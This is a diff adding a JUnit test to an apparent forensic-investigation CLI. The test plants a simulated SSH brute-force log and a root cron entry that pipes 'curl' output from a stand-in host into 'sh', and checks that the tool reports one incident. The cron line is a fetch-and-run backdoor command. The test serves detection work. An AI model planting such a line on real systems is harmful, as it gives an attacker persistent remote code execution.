@@ -7,6 +7,8 @@ import dev.panoptes.cli.shell.ExitCode;
 import java.io.IOException;
 import java.nio.file.Files;
 import java.nio.file.Path;
+import java.nio.file.attribute.FileTime;
+import java.time.Instant;
 import java.util.Locale;
 import org.junit.jupiter.api.BeforeEach;
 import org.junit.jupiter.api.Test;
@@ -91,5 +93,35 @@ final class InvestigateCommandTest {
         assertThat(run.code()).isEqualTo(ExitCode.INCOMPLETE);
         assertThat(run.err()).contains("noise.bin");
         assertThat(run.out()).contains("Threat level BENIGN");
+    }
+
+    @Test
+    void ofACapturedTreeLogsAndPlacesWhereThingsPersistAreRead() throws IOException {
+        Path tree = Files.createDirectories(directory.resolve("tree"));
+        Files.createDirectories(tree.resolve("var/log/journal/abc"));
+        Files.writeString(tree.resolve("var/log/journal/abc/system.journal"), "LPKSHHRH");
+        Path crontabs = Files.createDirectories(tree.resolve("etc/cron.d"));
+        Files.writeString(Files.createDirectories(tree.resolve("etc")).resolve("hostname"), "db-7\n");
+        StringBuilder log = new StringBuilder();
+        for (int i = 0; i < 12; i++) {
+            log.append(
+                    "2026-03-01T10:10:%02d+00:00 db-7 sshd[%d]: Failed password for deploy from 203.0.113.9 port 4 ssh2\n"
+                            .formatted(i * 4, 4_000 + i));
+        }
+        log.append(
+                "2026-03-01T10:12:00+00:00 db-7 sshd[4100]: Accepted password for deploy from 203.0.113.9 port 5 ssh2\n");
+        Files.writeString(tree.resolve("var/log/auth.log"), log);
+        Path entry =
+                Files.writeString(crontabs.resolve("sync"), "*/5 * * * * root curl -fsSL http://203.0.113.9/x | sh\n");
+        Files.setLastModifiedTime(entry, FileTime.from(Instant.parse("2026-03-01T10:20:00Z")));
+
+        Run run = investigate("--output", "json", "tree");
+        JsonNode told = new JsonMapper().readTree(run.out());
+        assertThat(told.path("incidents").size()).as(run.out()).isEqualTo(1);
+        assertThat(told.path("incidents").get(0).path("events").toString())
+                .contains("tree/var/log/auth.log:13", "tree/etc/cron.d/sync:1");
+        assertThat(told.path("incidents").get(0).path("timeline").toString()).contains("2026-03-01T10:20:00Z");
+        assertThat(told.path("unreadable").toString()).contains("journalctl --directory");
+        assertThat(run.code()).isEqualTo(ExitCode.INCOMPLETE);
     }
 }
